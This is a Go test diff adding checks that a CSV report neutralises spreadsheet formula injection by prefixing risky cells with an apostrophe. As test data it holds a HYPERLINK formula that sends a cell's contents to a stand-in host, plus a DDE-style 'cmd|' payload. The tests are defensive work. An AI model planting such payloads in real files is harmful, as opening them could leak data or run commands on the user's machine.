@@ -331,3 +331,44 @@ func TestOldServers(t *testing.T) {
 		})
 	}
 }
+
+// A failed row whose cells look like formulas comes back in the CSV report
+// with a leading apostrophe, so that opening the report runs nothing.
+func TestReportCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	env := newSandbox(t, sandbox.Options{})
+	evil := `=HYPERLINK("http://example.invalid/?"&A1,"click")`
+	p, f := ordersPlan(orderWithLines("O1", 2, "C1", evil))
+	o := env.opts(t, p, f)
+	if _, err := Apply(context.Background(), o); err != nil {
+		t.Fatal(err)
+	}
+	out := filepath.Join(t.TempDir(), "failed.csv")
+	if n, err := Report(o.Journal, out); err != nil || n != 1 {
+		t.Fatalf("report %d %v", n, err)
+	}
+	rows := readCSV(t, out)
+	if rows[1][2] != "'"+evil {
+		t.Errorf("the formula cell came back as %q", rows[1][2])
+	}
+}
+
+func TestNeutraliseFormula(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]string{
+		"":              "",
+		"plain":         "plain",
+		"=1+1":          "'=1+1",
+		"+SUM(A1)":      "'+SUM(A1)",
+		"-2+3+cmd|' /C": "'-2+3+cmd|' /C",
+		"@SUM(A1)":      "'@SUM(A1)",
+		"\t=1":          "'\t=1",
+		"-5":            "-5",
+		"+3.5":          "+3.5",
+		"a=b":           "a=b",
+	} {
+		if got := neutraliseFormula(in); got != want {
+			t.Errorf("neutraliseFormula(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
